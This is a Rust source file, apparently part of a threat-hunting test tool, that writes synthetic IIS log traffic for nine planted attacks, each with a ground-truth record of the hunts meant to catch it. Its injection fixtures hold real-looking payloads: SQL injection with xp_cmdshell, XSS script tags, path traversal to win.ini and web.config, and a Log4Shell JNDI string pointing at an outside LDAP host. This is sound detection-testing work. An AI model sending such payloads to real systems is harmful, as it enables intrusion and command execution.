//! The planted attacks, one function each, with the hunts meant to find
//! them. Each attacker has its own address from hosting and VPN ranges
//! ordinary visitors never use, so a test can ask "did the hunt name this
//! IP?" with nothing else to blur the answer. Times are fixed within the
//! week; sizes are fixed too (they must cross the hunts' thresholds
//! whatever `--lines` is).

use crate::catalog;
use crate::dice::Dice;
use crate::event::{HttpError, Request};
use crate::traffic::Week;
use crate::truth::Attack;

/// What one attack wrote.
pub struct Planted {
    pub requests: Vec<Request>,
    pub errors: Vec<HttpError>,
    pub attack: Attack,
}

/// Address ranges the attackers come from (hosting providers, VPN exits).
const ATTACKER_PREFIXES: &[&str] = &[
    "45.155.205",
    "185.220.101",
    "193.106.191",
    "91.240.118",
    "141.98.11",
    "89.248.165",
    "162.142.125",
    "194.26.192",
    "80.82.77",
    "103.145.13",
];

const GOBUSTER: &str = "gobuster/3.6";
const SQLMAP: &str = "sqlmap/1.8.3#stable (https://sqlmap.org)";
const NMAP: &str =
    "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)";
const PYTHON: &str = "python-requests/2.31.0";
const CURL: &str = "curl/8.5.0";
/// A scanner posing as a browser: user-agent hunts miss it.
const DISGUISED: &str =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36";
/// A user agent carrying markup: the report must show it as text.
pub const SCRIPT_AGENT: &str = "<script>alert('iishunt-report-xss')</script>";

/// Every attack, in a fixed order, each from its own address.
pub fn plant_all(dice: &mut Dice, week: &Week) -> Vec<Planted> {
    let mut ips = Vec::new();
    let mut next_ip = |dice: &mut Dice| loop {
        let ip = format!("{}.{}", dice.pick(ATTACKER_PREFIXES), dice.range(2, 254));
        if !ips.contains(&ip) {
            ips.push(ip.clone());
            return ip;
        }
    };
    let planters: [fn(&mut Dice, &Week, String) -> Planted; 9] = [
        dir_scanner,
        content_discovery,
        brute_force,
        port_scan,
        error_spike,
        injection,
        webshell,
        slow_404,
        unusual_verbs,
    ];
    planters
        .iter()
        .map(|plant| {
            let ip = next_ip(dice);
            plant(dice, week, ip)
        })
        .collect()
}

const WEB01: usize = 0;
const WEB02: usize = 1;
const WEB03: usize = 2;

fn server_name(server: usize) -> &'static str {
    ["WEB01", "WEB02", "WEB03"][server]
}

/// Wraps requests and errors with their truth record.
fn planted(
    name: &str,
    description: &str,
    ip: String,
    server: usize,
    requests: Vec<Request>,
    errors: Vec<HttpError>,
    hunts: &[&str],
) -> Planted {
    let times = requests
        .iter()
        .map(|r| r.at_ms)
        .chain(errors.iter().map(|e| e.at_ms));
    let first = times.clone().min().unwrap_or(0);
    let last = times.max().unwrap_or(0);
    Planted {
        attack: Attack {
            name: name.into(),
            description: description.into(),
            ip,
            server: server_name(server).into(),
            first: crate::write::rfc3339(first),
            last: crate::write::rfc3339(last),
            lines: (requests.len() + errors.len()) as u64,
            hunts: hunts.iter().map(|h| h.to_string()).collect(),
        },
        requests,
        errors,
    }
}

fn not_found(
    at: i64,
    server: usize,
    ip: &str,
    agent: &str,
    stem: &str,
    dice: &mut Dice,
) -> Request {
    let mut r = Request::get(at, server, ip, agent, stem).status(404);
    r.sc_bytes = catalog::response_bytes(dice, stem, 404);
    r.cs_bytes = dice.range(180, 320);
    r.taken_ms = dice.latency(3.0);
    r
}

/// Seed 000: a directory brute-forcer, 700 requests in about nine minutes, all 404.
fn dir_scanner(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut at = week.at(1, 2, 14);
    let mut requests = Vec::new();
    let hidden_roots: Vec<&str> = catalog::HIDDEN_CONTENT
        .iter()
        .filter_map(|(p, _)| p.trim_matches('/').split('/').next())
        .collect();
    let words: Vec<&str> = catalog::WORDLIST
        .iter()
        .copied()
        .filter(|w| !hidden_roots.contains(w))
        .collect();
    let exts = [
        "", ".php", ".aspx", ".bak", ".zip", ".txt", ".old", ".config", ".asp", ".jsp", ".html",
    ];
    'outer: for ext in exts {
        for w in &words {
            requests.push(not_found(
                at,
                WEB01,
                &ip,
                GOBUSTER,
                &format!("/{w}{ext}"),
                dice,
            ));
            at += dice.range(500, 1_000) as i64;
            if requests.len() >= 640 {
                break 'outer;
            }
        }
    }
    for path in catalog::PROBE_PATHS {
        if catalog::HIDDEN_CONTENT.iter().any(|(p, _)| p == path) {
            continue;
        }
        requests.push(not_found(at, WEB01, &ip, GOBUSTER, path, dice));
        at += dice.range(300, 700) as i64;
    }
    planted(
        "dir_scanner",
        "Directory brute force (gobuster wordlist) on the shop: ~700 requests in ten minutes, all 404",
        ip,
        WEB01,
        requests,
        Vec::new(),
        &["recon_404_burst", "vulnerability_paths", "never_served_paths", "scanner_user_agents", "access_error_spike"],
    )
}

/// Seed 000 step 5: a scanner that finds real content — its 404s turn into 200s and a 302.
fn content_discovery(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut at = week.at(3, 14, 40);
    let mut requests = Vec::new();
    let mut paths: Vec<String> = catalog::PROBE_PATHS.iter().map(|p| p.to_string()).collect();
    for w in catalog::WORDLIST {
        paths.push(format!("/{w}/"));
        paths.push(format!("/{w}.zip"));
    }
    for (k, path) in paths.iter().enumerate() {
        let mut probe = not_found(at, WEB02, &ip, DISGUISED, path, dice);
        if let Some((_, status)) = catalog::HIDDEN_CONTENT.iter().find(|(p, _)| p == path) {
            probe = probe.status(*status);
        } else if catalog::HIDDEN_CONTENT
            .iter()
            .any(|(p, _)| p.starts_with(path.as_str()))
        {
            // A folder that exists: listing denied.
            probe = probe.status(403);
            probe.substatus = 14;
        }
        requests.push(probe);
        at += dice.range(400, 1_500) as i64;
        if k % 40 == 39 {
            let (hidden, status) =
                catalog::HIDDEN_CONTENT[(k / 40) % catalog::HIDDEN_CONTENT.len()];
            let mut found = Request::get(at, WEB02, &ip, DISGUISED, hidden).status(status);
            found.sc_bytes = if hidden.ends_with(".zip") {
                48_213_911
            } else {
                dice.range(300, 900)
            };
            found.taken_ms = if hidden.ends_with(".zip") { 9_412 } else { 4 };
            requests.push(found);
            at += dice.range(400, 1_500) as i64;
        }
    }
    // Then it comes back for what it found.
    at += 20 * 60_000;
    for (hidden, status) in catalog::HIDDEN_CONTENT {
        let mut again = Request::get(at, WEB02, &ip, DISGUISED, hidden).status(*status);
        again.sc_bytes = if hidden.ends_with(".zip") {
            48_213_911
        } else {
            512
        };
        again.taken_ms = 30;
        requests.push(again);
        at += 3_000;
    }
    planted(
        "content_discovery",
        "A scanner posing as Chrome probes ~200 paths on the shop and finds /backup/site-backup.zip, /.git/config and /admin/, then fetches them again",
        ip,
        WEB02,
        requests,
        Vec::new(),
        &["recon_404_to_success", "recon_404_burst", "vulnerability_paths"],
    )
}

/// Seed 003: password spraying against the portal's Windows authentication,
/// ~30 failed logons a minute for 25 minutes, then one success.
fn brute_force(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let users = [
        "administrator",
        "admin",
        "svc_backup",
        "jdoe",
        "asmith",
        "helpdesk",
        "scanner",
        "test",
    ];
    let mut at = week.at(2, 21, 5);
    let mut requests = Vec::new();
    for _minute in 0..25 {
        let end = at + 60_000;
        while at < end {
            let mut r = Request::get(at, WEB03, &ip, PYTHON, "/portal/").status(401);
            r.substatus = 1;
            r.win32 = 1326;
            r.user = format!("CONTOSO\\{}", dice.pick(&users));
            r.sc_bytes = catalog::response_bytes(dice, "/portal/", 401);
            r.taken_ms = dice.latency(15.0) + 3;
            requests.push(r);
            at += dice.range(1_300, 2_600) as i64;
        }
    }
    let mut success = Request::get(at, WEB03, &ip, PYTHON, "/portal/");
    success.user = "CONTOSO\\svc_backup".into();
    success.sc_bytes = 14_211;
    requests.push(success);
    let mut docs = Request::get(
        at + 4_000,
        WEB03,
        &ip,
        PYTHON,
        "/portal/documents/list.aspx",
    );
    docs.user = "CONTOSO\\svc_backup".into();
    requests.push(docs);
    planted(
        "brute_force",
        "Password spraying on the portal's Windows authentication (401.1, win32 1326) then a successful logon as CONTOSO\\svc_backup",
        ip,
        WEB03,
        requests,
        Vec::new(),
        &["iis_failed_attempts_same_ip"],
    )
}

/// Seed 002: one client on 36 server ports within ten minutes.
fn port_scan(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut ports: Vec<u16> = vec![80, 443, 8080, 8443, 8888, 9443];
    ports.extend(8000..8030);
    let mut at = week.at(5, 11, 21);
    let mut requests = Vec::new();
    for port in ports {
        for _ in 0..dice.range(1, 4) {
            let mut r =
                Request::get(at, WEB02, &ip, NMAP, "/").status(if port == 443 { 200 } else { 400 });
            r.port = port;
            r.sc_bytes = catalog::response_bytes(dice, "/", r.status);
            r.taken_ms = dice.latency(3.0);
            requests.push(r);
            at += dice.range(2_000, 9_000) as i64;
        }
    }
    planted(
        "port_scan",
        "One client reaching the shop on 36 server ports in a few minutes (Nmap)",
        ip,
        WEB02,
        requests,
        Vec::new(),
        &["iis_many_ports_same_ip", "scanner_user_agents"],
    )
}

/// Seed 001: a burst of malformed requests HTTP.sys refuses before IIS sees them.
fn error_spike(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut at = week.at(0, 16, 30);
    let mut errors = Vec::new();
    let shapes: [(&str, &str, &str, &str); 4] = [
        ("GET", "/%c0%af", "400", "BadRequest"),
        ("GET", "/", "400", "Hostname"),
        ("FOO", "/", "400", "Verb"),
        ("GET", "/%u002e%u002e/", "400", "URL"),
    ];
    for n in 0..150 {
        let (method, uri, status, reason) = shapes[n % shapes.len()];
        errors.push(HttpError {
            at_ms: at,
            server: WEB01,
            client: ip.clone(),
            client_port: dice.range(40_000, 60_000) as u16,
            port: 443,
            version: "HTTP/1.1",
            method: method.into(),
            uri: format!("{uri}{n}"),
            status,
            site_id: "-",
            reason,
            queue: "-",
        });
        at += dice.range(3_000, 12_000) as i64;
    }
    planted(
        "error_spike",
        "150 malformed requests refused by HTTP.sys (BadRequest, Hostname, Verb, URL) from one client",
        ip,
        WEB01,
        Vec::new(),
        errors,
        &["web_server_error_spike"],
    )
}

/// SQL injection, XSS, traversal and Log4Shell payloads from sqlmap, and one
/// request whose user agent is a script tag.
fn injection(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let payloads: [(&str, &str, u16); 10] = [
        (
            "/products",
            "id=1%27%20UNION%20SELECT%20NULL,NULL,NULL--",
            500,
        ),
        ("/products", "id=1%20AND%201=1", 200),
        ("/products", "id=1%27%20OR%20%271%27=%271", 500),
        ("/products", "id=1;WAITFOR%20DELAY%20%270:0:5%27--", 500),
        (
            "/products",
            "id=1%20UNION%20ALL%20SELECT%20table_name%20FROM%20information_schema.tables--",
            500,
        ),
        (
            "/search",
            "q=%3Cscript%3Ealert(document.cookie)%3C/script%3E",
            200,
        ),
        (
            "/search",
            "q=%24%7Bjndi:ldap://45.155.205.99:1389/a%7D",
            200,
        ),
        (
            "/download.aspx",
            "file=..%2F..%2F..%2Fwindows%2Fwin.ini",
            400,
        ),
        ("/download.aspx", "file=../../web.config", 400),
        ("/products", "id=1;EXEC%20xp_cmdshell(%27whoami%27)--", 500),
    ];
    let mut at = week.at(4, 9, 12);
    let mut requests = Vec::new();
    for round in 0..9 {
        for (stem, query, status) in payloads {
            let mut r = Request::get(at, WEB01, &ip, SQLMAP, stem).status(status);
            r.query = if round == 0 {
                query.to_string()
            } else {
                format!("{query}&r={round}")
            };
            r.sc_bytes = catalog::response_bytes(dice, stem, status);
            r.taken_ms = dice.latency(60.0) + 5;
            requests.push(r);
            at += dice.range(800, 2_500) as i64;
        }
    }
    let mut xss = Request::get(at, WEB01, &ip, SCRIPT_AGENT, "/search").status(200);
    xss.query = "q=%3Cimg%20src=x%20onerror=alert(1)%3E".into();
    requests.push(xss);
    planted(
        "injection",
        "sqlmap sends SQL injection, XSS, path traversal and ${jndi:} payloads to the shop; one request carries a <script> user agent",
        ip,
        WEB01,
        requests,
        Vec::new(),
        &["injection_payloads", "scanner_user_agents"],
    )
}

/// A web shell dropped in an upload folder, driven by POSTs that succeed.
fn webshell(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut at = week.at(3, 1, 48);
    let mut requests = Vec::new();
    let shell = "/uploads/img/help.aspx";
    let mut first = Request::get(at, WEB01, &ip, DISGUISED, shell);
    first.sc_bytes = 2_310;
    requests.push(first);
    for _ in 0..14 {
        at += dice.range(60_000, 600_000) as i64;
        let mut post = Request::get(at, WEB01, &ip, DISGUISED, shell);
        post.method = "POST";
        post.cs_bytes = dice.range(600, 2_400);
        post.sc_bytes = dice.range(300, 40_000);
        post.taken_ms = dice.latency(400.0) + 50;
        requests.push(post);
    }
    planted(
        "webshell",
        "POSTs answered 200 by /uploads/img/help.aspx, a page no one else uses: a web shell",
        ip,
        WEB01,
        requests,
        Vec::new(),
        &["webshell_post"],
    )
}

/// Seed 000 step 6: 404s that take seconds — the server working on malicious input.
fn slow_404(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let mut at = week.at(1, 19, 45);
    let mut requests = Vec::new();
    for n in 0..45 {
        let stem = format!("/api/v1/orders/{}", 5_000 + n);
        let mut r = not_found(at, WEB02, &ip, CURL, &stem, dice);
        r.query = format!("customer=1%27%20AND%20SLEEP({})--", 3 + n % 5);
        r.taken_ms = 3_000 + (n % 5) as u32 * 1_000 + dice.range(0, 400) as u32;
        requests.push(r);
        at += dice.range(10_000, 30_000) as i64;
    }
    planted(
        "slow_404",
        "45 404s that each take 3-8 s on an API path with time-based SQL injection in the query",
        ip,
        WEB02,
        requests,
        Vec::new(),
        &["slow_404", "injection_payloads"],
    )
}

/// WebDAV and debugging verbs a web server should never see from the Internet.
fn unusual_verbs(dice: &mut Dice, week: &Week, ip: String) -> Planted {
    let verbs: [(&'static str, &str, u16); 8] = [
        ("PROPFIND", "/", 405),
        ("TRACE", "/", 405),
        ("TRACK", "/", 501),
        ("DEBUG", "/default.aspx", 403),
        ("PUT", "/uploads/test.txt", 405),
        ("DELETE", "/uploads/test.txt", 405),
        ("MOVE", "/uploads/test.txt", 405),
        ("SEARCH", "/", 501),
    ];
    let mut at = week.at(0, 23, 10);
    let mut requests = Vec::new();
    for round in 0..4 {
        for (method, stem, status) in verbs {
            let mut r = Request::get(at, WEB02, &ip, NMAP, stem).status(status);
            r.method = method;
            r.sc_bytes = catalog::response_bytes(dice, stem, status);
            r.cs_bytes = if round == 0 { 220 } else { 260 };
            r.taken_ms = dice.latency(2.0);
            requests.push(r);
            at += dice.range(1_000, 4_000) as i64;
        }
    }
    planted(
        "unusual_verbs",
        "PROPFIND, TRACE, TRACK, DEBUG, PUT, DELETE, MOVE and SEARCH requests from one client",
        ip,
        WEB02,
        requests,
        Vec::new(),
        &["unusual_verbs", "scanner_user_agents"],
    )
}
